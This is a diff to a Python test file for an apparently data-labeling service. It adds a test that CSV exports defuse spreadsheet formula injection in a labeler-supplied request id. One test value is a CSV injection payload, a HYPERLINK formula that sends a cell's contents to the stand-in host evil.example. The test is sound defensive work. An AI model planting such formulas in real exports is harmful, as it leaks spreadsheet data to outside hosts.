@@ -225,6 +225,19 @@ def test_export_json_and_csv(labeler: CollieClient, trainer: CollieClient, run: 
     assert list(rows[0])[5:7] == ["value", "value_name"]  # the name beside its value
 
 
+def test_csv_export_never_holds_a_formula(labeler: CollieClient, trainer: CollieClient, run: RunRead) -> None:
+    """A labeler's client_request_id is any printable ASCII: in the CSV file a spreadsheet opens, one
+    that starts like a formula is text, while the JSON export keeps it as sent."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    for request_id in (formula, "-1+2", "@SUM(A1)", "+1"):
+        claim = labeler.claim(run.id)
+        labeler.submit(run.id, claim.query.query_id, 2, client_request_id=request_id)
+    rows = list(csv.DictReader(io.StringIO(trainer.export(run.id, "csv"))))
+    assert [r["client_request_id"] for r in rows] == ["'" + formula, "'-1+2", "'@SUM(A1)", "'+1"]
+    assert [r["value"] for r in rows] == ["2"] * 4  # numbers untouched
+    assert json.loads(trainer.export(run.id, "json"))[0]["client_request_id"] == formula
+
+
 def test_rollouts_and_metrics_are_bounded(trainer: CollieClient, labeler: CollieClient, run: RunRead) -> None:
     for epoch in range(12):
         trainer.post_metrics(run.id, MetricsIn(epoch=epoch, values={"safe_ratio": epoch / 10, "loss": -1.0}))
